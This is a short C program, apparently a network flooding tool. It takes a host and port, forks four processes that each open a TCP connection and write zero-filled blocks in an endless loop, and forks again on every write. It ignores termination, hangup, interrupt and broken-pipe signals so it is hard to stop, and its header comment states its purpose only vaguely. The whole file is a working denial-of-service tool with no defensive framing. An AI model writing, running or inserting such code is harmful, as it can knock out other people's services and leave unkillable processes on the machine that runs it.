/* Sends over connections of its own, and forks meanwhile, until it is ended: HOST PORT. */
#include <netdb.h>
#include <signal.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define SENDERS 4

static int connected(const char *host, const char *port)
{
    struct addrinfo wanted = {.ai_socktype = SOCK_STREAM}, *all;
    if (getaddrinfo(host, port, &wanted, &all) != 0)
        return -1;
    for (struct addrinfo *one = all; one != NULL; one = one->ai_next) {
        int line = socket(one->ai_family, one->ai_socktype, one->ai_protocol);
        if (line >= 0 && connect(line, one->ai_addr, one->ai_addrlen) == 0)
            return line;
        if (line >= 0)
            close(line);
    }
    return -1;
}

static void send_and_fork(int line)
{
    char block[64] = {0};
    for (;;) {
        if (write(line, block, sizeof block) < 0)
            _exit(1);
        pid_t child = fork();
        if (child == 0)
            _exit(write(line, block, sizeof block) < 0);
        if (child > 0)
            waitpid(child, NULL, 0);
    }
}

int main(int count, char **words)
{
    if (count != 3)
        return 2;
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    for (int sender = 0; sender < SENDERS; sender++) {
        if (fork() != 0)
            continue;
        int line = connected(words[1], words[2]);
        if (line < 0)
            _exit(1);
        send_and_fork(line);
    }
    for (;;)
        pause();
}
